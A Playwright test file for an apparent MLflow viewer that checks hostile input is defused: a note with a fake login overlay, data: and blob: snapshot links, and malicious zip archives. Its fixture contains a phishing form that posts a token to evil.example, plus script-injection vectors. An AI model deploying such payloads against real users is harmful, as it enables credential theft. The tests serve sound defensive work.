/**
 * Hostile input in the page: a note that tries to cover the app with a fake form, a shared link
 * carrying its own snapshot, and a subset of the generated corpus (testing/hostile.ts) dropped on
 * the import panel: each imported as stated or refused with its reason, earlier data intact.
 */
import { test, expect } from '@playwright/test';
import { zipSync } from 'fflate';
import { fileStore } from '../../src/lib/testing/mlflow-stores';
import { hostileZips } from '../../src/lib/testing/hostile';
import { SHOTS, dropFile } from './helpers';

const PHISH = `Results below.

<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="overlay" id="login">
<h2>Session expired</h2>
<form action="https://evil.example/steal" method="post"><input name="token" placeholder="Paste your token"><button>Continue</button></form>
</div>
<img src="x" onerror="alert(1)"> <a href="javascript:alert(1)">click</a> <iframe src="https://evil.example"></iframe>`;

test('a note cannot cover the app, fake a form or run script', async ({ page }) => {
	const dialogs: string[] = [];
	page.on('dialog', (d) => (dialogs.push(d.message()), d.dismiss()));
	const files = fileStore([{ id: '1', name: 'phish', tags: { 'mlflow.note.content': PHISH } }]);
	await page.goto('./');
	await dropFile(page, 'phish.zip', Buffer.from(zipSync(Object.fromEntries(files))));
	await page.getByRole('link', { name: 'phish' }).click();
	const note = page.getByTestId('note-html');
	await expect(note).toContainText('Session expired');
	await expect(note.locator('form, input, button, iframe, [style], [class], [id], [onerror]')).toHaveCount(0);
	await expect(note.locator('a[href^="javascript"]')).toHaveCount(0);
	// The app's own controls are where they were, not under anything.
	for (const name of ['Experiments', 'Models']) {
		const link = page.getByRole('banner').getByRole('link', { name });
		const box = (await link.boundingBox())!;
		const hit = await page.evaluate(
			([x, y]) => document.elementFromPoint(x, y)?.closest('a')?.textContent?.trim(),
			[box.x + box.width / 2, box.y + box.height / 2]
		);
		expect(hit).toBe(name);
	}
	expect(dialogs).toEqual([]);
	await page.screenshot({ path: SHOTS + 'hostile-note.png', fullPage: true });
});

test('a link that carries its own snapshot (data:, blob:) is refused', async ({ page }) => {
	for (const url of ['data:application/octet-stream;base64,UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==', 'blob:http://localhost:4174/0000']) {
		await page.goto(`./?snapshot=${encodeURIComponent(url)}`);
		await expect(page.getByTestId('snapshot-error')).toContainText('Snapshots open from http(s) links only');
		await expect(page.getByTestId('read-only-banner')).toHaveCount(0);
	}
});

test('hostile archives dropped on the page: imported as stated or refused with the reason, earlier data intact', async ({ page }) => {
	await page.goto('./');
	await page.getByTestId('open-demo').click();
	await expect(page.getByTestId('import-report').first()).toBeVisible();
	const experiments = page.getByTestId('experiments').locator('tbody tr');
	let before = await experiments.count();
	const pick = ['altered.zip', 'lying-size.zip', 'cp437.zip', 'prefixed.zip', 'traversal.zip', 'bomb.zip'];
	for (const input of hostileZips().filter((h) => pick.includes(h.name))) {
		await dropFile(page, input.name, Buffer.from(input.bytes));
		if (input.refused) {
			await expect(page.getByTestId('import-error')).toContainText(input.refused);
			await expect(experiments).toHaveCount(before);
		} else {
			const report = page.getByTestId('import-report').first();
			await expect(report).toContainText(`Imported ${input.name}`);
			if (input.imported?.runs) await expect(report).toContainText(`${input.imported.runs} run`);
			if (input.imported?.note) await expect(report).toContainText(input.imported.note);
			if (input.imported?.skipped) {
				await report.getByText(/items? skipped/).click();
				await expect(report).toContainText(input.imported.skipped);
			}
			await expect.poll(() => experiments.count()).toBeGreaterThanOrEqual(before);
			before = await experiments.count();
		}
	}
	await page.screenshot({ path: SHOTS + 'hostile-imports.png', fullPage: true });
});
